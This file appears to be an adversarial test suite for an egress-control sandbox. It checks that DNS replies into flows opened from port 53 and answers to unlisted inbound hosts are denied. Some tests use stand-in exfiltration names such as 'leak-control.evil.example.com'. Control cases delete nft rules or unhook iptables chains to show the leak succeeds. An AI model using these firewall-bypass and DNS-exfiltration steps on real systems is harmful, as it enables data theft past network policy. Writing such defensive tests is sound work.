// Flows opened from outside. A host that sends first gets a conntrack entry whose reply
// direction is the application's way back to it, and NAT never sees those packets:
//   - from port 53, the application's DNS in that flow would go straight to the host,
//     unredirected and unjudged: the DNS guard denies every unmarked port-53 packet that
//     is not on its way to the proxy, in any conntrack state (reason "dns");
//   - from any port, the flow is a two-way channel with a host the policy denies:
//     --inbound-from names who may be answered (reason "inbound"); with the default
//     `any` the channel exists, and doctor says so.
// The control shows the first attack does get through without the guard's rule.
import { describe, expect, test } from "bun:test";
import { IDENTITIES, type Identity } from "../../support/attacker.ts";
import { BIN } from "../../support/serve.ts";
import { LAB, attackSpawn, counter, netDenied, outside, restart, useAdversarialLab, type AdversarialLab } from "./support.ts";

const get = useAdversarialLab();
const port = (who: Identity, n: number) => 40000 + n * 10 + IDENTITIES.indexOf(who);
const hex = (s: string) => Buffer.from(s).toString("hex");

/** the application listens; a host outside sends first; what each side saw */
async function replyFirst(ctx: AdversarialLab, who: Identity, from: string, fromPort: number, p: number, name: string) {
  const app = attackSpawn(ctx.lab, who, ["reply-first", String(p), name]);
  await app.waitLine(/^listening/);
  const to = from.includes(":") ? LAB.sandboxV6 : LAB.sandboxV4;
  const world = await outside(ctx.lab, ["udp-first", from, String(fromPort), to, String(p)]);
  const line = await app.waitLine(/^(sent|\w+Error)/);
  await app.stop();
  return { app: line, world };
}

async function tcpFirst(ctx: AdversarialLab, who: Identity, from: string, fromPort: number, p: number, name: string) {
  const app = attackSpawn(ctx.lab, who, ["tcp-listen", String(p), name]);
  await app.waitLine(/^listening/);
  const world = await outside(ctx.lab, ["tcp-first", from, String(fromPort), LAB.sandboxV4, String(p)]);
  await app.stop();
  return { app: app.output(), world };
}

async function doctorJson(ctx: AdversarialLab): Promise<any> {
  const r = await ctx.lab.exec("sandbox", [BIN, "doctor", "--json", "--socket", ctx.served.socket]);
  return JSON.parse(r.stdout);
}

describe("from port 53: the application's DNS in a flow another host opened", () => {
  for (const who of IDENTITIES) {
    test(`${who}, UDP: its query back to the host fails with EPERM; net.denied reason dns`, async () => {
      const ctx = get();
      const host = `203.0.113.${71 + IDENTITIES.indexOf(who)}`;
      const before = await counter(ctx.lab, "denied_dns");
      const r = await replyFirst(ctx, who, host, 53, port(who, 1), `leak-${who}.evil.example.com`);
      expect(r.app).toBe("PermissionError errno=1");
      expect(r.world).toMatch(/^TimeoutError/);
      await netDenied(ctx.served, host, 53, "dns", "udp");
      expect(await counter(ctx.lab, "denied_dns")).toBeGreaterThan(before);
    });

    test(`${who}, TCP: the connection from port 53 never opens (its SYN-ACK is denied); net.denied reason dns`, async () => {
      const ctx = get();
      const host = `203.0.113.${73 + IDENTITIES.indexOf(who)}`;
      const r = await tcpFirst(ctx, who, host, 53, port(who, 2), `leak-${who}.evil.example.com`);
      expect(r.world).not.toMatch(/^connected/m);
      expect(r.app).not.toMatch(/sent/);
      await netDenied(ctx.served, host, 53, "dns", "tcp");
    });
  }

  test("control: with the guard's rule removed, the same query reaches the host unredirected", async () => {
    const ctx = get();
    const list = await ctx.lab.exec("sandbox", ["nft", "-a", "list", "chain", "inet", "egressctl", "dns_guard"]);
    const handle = /goto deny_dns # handle (\d+)/.exec(list.stdout)![1]!;
    expect((await ctx.lab.exec("sandbox", ["nft", "delete", "rule", "inet", "egressctl", "dns_guard", "handle", handle])).code).toBe(0);
    try {
      const r = await replyFirst(ctx, "nobody", "203.0.113.75", 53, port("nobody", 3), "leak-control.evil.example.com");
      expect(r.app).toBe("sent");
      expect(r.world).toContain(hex("leak-control")); // the denied name, at the host that sent first
    } finally {
      ctx.served.proc.kill("SIGHUP"); // re-installs the unchanged policy, the guard with it
      await ctx.served.waitEvent((e) => e.event === "policy.reinstalled");
    }
    const again = await replyFirst(ctx, "nobody", "203.0.113.76", 53, port("nobody", 4), "leak-control.evil.example.com");
    expect(again.app).toBe("PermissionError errno=1");
  });
});

describe("--inbound-from any (the default): the documented two-way channel", () => {
  test("a denied host that sends first is answered; /status says any and doctor warns", async () => {
    const ctx = get();
    const r = await replyFirst(ctx, "nobody", "203.0.113.81", 9999, port("nobody", 5), "x.example.com");
    expect(r.app).toBe("sent");
    expect(r.world).toMatch(/^got /);
    const st = JSON.parse((await ctx.served.get("/status")).body);
    expect(st.inbound).toEqual({ from: "any", enforced: true });
    const d = await doctorJson(ctx);
    const f = d.findings.find((x: any) => x.check === "exposure.inbound");
    expect(f.status).toBe("warn");
    expect(f.message).toMatch(/any host able to reach the sandbox can hold a two-way channel with it/);
  });
});

describe("--inbound-from 198.51.100.0/25", () => {
  test("served with the list: /status and doctor show it", async () => {
    const ctx = get();
    await restart(ctx, { flags: ["--inbound-from", "198.51.100.0/25"] });
    const st = JSON.parse((await ctx.served.get("/status")).body);
    expect(st.inbound).toEqual({ from: ["198.51.100.0/25"], enforced: true });
    const d = await doctorJson(ctx);
    expect(d.findings.find((x: any) => x.check === "exposure.inbound").status).toBe("ok");
  });

  for (const who of IDENTITIES) {
    test(`${who}: a host outside the list is not answered (EPERM, net.denied reason inbound); one inside is`, async () => {
      const ctx = get();
      const n = IDENTITIES.indexOf(who);
      const before = await counter(ctx.lab, "denied_inbound");
      const denied = await replyFirst(ctx, who, `203.0.113.${91 + n}`, 9999, port(who, 6), "x.example.com");
      expect(denied.app).toBe("PermissionError errno=1");
      expect(denied.world).toMatch(/^TimeoutError/);
      await netDenied(ctx.served, `203.0.113.${91 + n}`, 9999, "inbound", "udp");
      expect(await counter(ctx.lab, "denied_inbound")).toBeGreaterThan(before);
      const listed = await replyFirst(ctx, who, `198.51.100.${101 + n}`, 9999, port(who, 7), "x.example.com");
      expect(listed.app).toBe("sent");
      expect(listed.world).toMatch(/^got /);
    });

    test(`${who}: IPv6 (no IPv6 source listed) and TCP are judged the same way`, async () => {
      const ctx = get();
      const n = IDENTITIES.indexOf(who);
      const v6 = await replyFirst(ctx, who, `2001:db8:200::${93 + n}`, 9999, port(who, 8), "x.example.com");
      expect(v6.app).toBe("PermissionError errno=1");
      await netDenied(ctx.served, `2001:db8:200::${93 + n}`, 9999, "inbound", "udp");
      const tcp = await tcpFirst(ctx, who, `203.0.113.${95 + n}`, 9998, port(who, 9), "x.example.com");
      expect(tcp.world).not.toMatch(/^connected/m);
      await netDenied(ctx.served, `203.0.113.${95 + n}`, 9998, "inbound", "tcp");
      const ok = await tcpFirst(ctx, who, `198.51.100.${105 + n}`, 9998, port(who, 10), "x.example.com");
      expect(ok.world).toMatch(/^connected\ngot /);
    });
  }

  test("--inbound-from none: not even a listed host is answered", async () => {
    const ctx = get();
    await restart(ctx, { flags: ["--inbound-from", "none"] });
    const r = await replyFirst(ctx, "root-nocap", "198.51.100.111", 9999, port("root-nocap", 11), "x.example.com");
    expect(r.app).toBe("PermissionError errno=1");
    await netDenied(ctx.served, "198.51.100.111", 9999, "inbound", "udp");
  });

  test("related packets too: the kernel's ICMP port-unreachable about a flow from outside is not sent", async () => {
    const ctx = get();
    const before = await counter(ctx.lab, "denied_inbound");
    // nothing listens on this port: the sandbox's kernel answers with an ICMP error,
    // related to the flow the outside host opened (ICMP has no port: counted, not noted)
    expect(await outside(ctx.lab, ["udp-first", "198.51.100.112", "9999", LAB.sandboxV4, "39999"])).toMatch(/^TimeoutError/);
    expect(await counter(ctx.lab, "denied_inbound")).toBeGreaterThan(before);
  });
});

describe("dns-only mode", () => {
  for (const who of IDENTITIES) {
    test(`${who}: the DNS guard holds there too (its own filter chain, policy accept); --inbound-from is not enforced`, async () => {
      const ctx = get();
      if (who === IDENTITIES[0]) await restart(ctx, { flags: ["--mode", "dns-only", "--inbound-from", "none"] });
      const host = `203.0.113.${121 + IDENTITIES.indexOf(who)}`;
      const r = await replyFirst(ctx, who, host, 53, port(who, 12), `leak-${who}.evil.example.com`);
      expect(r.app).toBe("PermissionError errno=1");
      await netDenied(ctx.served, host, 53, "dns", "udp");
      const st = JSON.parse((await ctx.served.get("/status")).body);
      expect(st.mode).toBe("dns-only");
      expect(st.inbound).toEqual({ from: "none", enforced: false });
      // nothing filters addresses in dns-only: a flow from elsewhere is answered
      const other = await replyFirst(ctx, who, `203.0.113.${123 + IDENTITIES.indexOf(who)}`, 9999, port(who, 13), "x.example.com");
      expect(other.app).toBe("sent");
    });
  }
});

describe("the iptables fallback (dns-only without nftables)", () => {
  // Its raw chain leaves every datagram from port 53 untracked, so a flow a host opens
  // from there once the chains are in makes no entry: the application's answer is a new
  // packet and NAT sends it to the proxy. What the filter chain EGRESSCTL-DNS-GUARD is
  // for: a flow whose entry was made before serve loaded its chains (a restart, a start
  // after the application), whose reply direction NAT never touches.
  const fallback = { flags: ["--mode", "dns-only"], env: { EGRESSCTL_NFT_BACKEND: "none" } };

  /** the packets the guard's DROP rule for UDP has counted */
  async function guardDrops(ctx: AdversarialLab): Promise<number> {
    const r = await ctx.lab.exec("sandbox", ["iptables", "-w", "-t", "filter", "-L", "EGRESSCTL-DNS-GUARD", "-v", "-x", "-n"]);
    const line = r.stdout.split("\n").find((l) => / DROP /.test(l) && l.includes(" udp ") && l.includes("dpt:53"));
    return Number(line?.trim().split(/\s+/)[0] ?? -1);
  }

  /**
   * A host sends first from port 53 while no serve runs (the entry is made, tracked);
   * serve starts in the fallback; 4 s after the host's datagram the application answers
   * it with a DNS query. `meanwhile` runs once serve is ready, before that answer.
   */
  async function flowFromBefore(ctx: AdversarialLab, who: Identity, host: string, p: number, name: string, meanwhile?: () => Promise<void>) {
    let app: ReturnType<typeof attackSpawn> | undefined;
    let world: Promise<string> | undefined;
    await restart(ctx, {
      ...fallback,
      before: async (lab) => {
        // the nftables table of the serves before holds a guard of its own: without it,
        // only the iptables chains stand. Conntrack stays on in the namespace (a table of
        // the test's with a ct rule and no verdict), as it is wherever a flow can predate serve.
        await lab.exec("sandbox", ["nft", "-f", lab.file("ct-on.nft", "table ip egl_ct_on {\n  chain in { type filter hook prerouting priority 0; ct state new counter; }\n}\n")]);
        await lab.exec("sandbox", ["nft", "delete", "table", "inet", "egressctl"]);
        await lab.exec("sandbox", ["sh", "-c", "iptables -w -D OUTPUT -j EGRESSCTL-DNS-GUARD; iptables -w -t raw -D PREROUTING -j EGRESSCTL-NOTRACK-IN; true"]);
        app = attackSpawn(lab, who, ["reply-first", String(p), name, "4"]);
        await app.waitLine(/^listening/);
        world = outside(lab, ["udp-first", host, "53", LAB.sandboxV4, String(p), "8"]);
        await app.waitLine(/^contacted/);
      },
    });
    try {
      expect((await ctx.lab.exec("sandbox", ["nft", "list", "tables"])).stdout).not.toContain("egressctl");
      await meanwhile?.();
      const line = await app!.waitLine(/^(sent|\w+Error)/);
      return { app: line, world: await world! };
    } finally {
      await app!.stop();
      await ctx.lab.exec("sandbox", ["nft", "delete", "table", "ip", "egl_ct_on"]);
    }
  }

  for (const who of IDENTITIES) {
    test(`${who}: DNS back into a flow a host opened from port 53 before serve started is dropped by the guard chain`, async () => {
      const ctx = get();
      const r = await flowFromBefore(ctx, who, `203.0.113.${131 + IDENTITIES.indexOf(who)}`, port(who, 14), `leak-${who}.evil.example.com`);
      expect(r.app).toBe("PermissionError errno=1");
      expect(r.world).toMatch(/^TimeoutError/);
      expect(await guardDrops(ctx)).toBeGreaterThan(0);
    });
  }

  test("control: with the guard chain unhooked, that DNS reaches the host unredirected", async () => {
    const ctx = get();
    const unhook = async () => expect((await ctx.lab.exec("sandbox", ["iptables", "-w", "-D", "OUTPUT", "-j", "EGRESSCTL-DNS-GUARD"])).code).toBe(0);
    const r = await flowFromBefore(ctx, "nobody", "203.0.113.135", port("nobody", 16), "leak-control.evil.example.com", unhook);
    expect(r.app).toBe("sent");
    expect(r.world).toContain(hex("leak-control"));
  });

  test("a flow opened from port 53 once serve runs makes no entry: the application's DNS goes to the proxy", async () => {
    const ctx = get();
    await restart(ctx, fallback);
    const r = await replyFirst(ctx, "nobody", "203.0.113.136", 53, port("nobody", 17), "leak-later.evil.example.com");
    expect(r.app).toBe("sent");
    expect(r.world).toMatch(/^TimeoutError/);
    expect(await ctx.served.waitEvent((e) => e.event === "dns.denied" && e.name === "leak-later.evil.example.com")).toBeTruthy();
  });
});
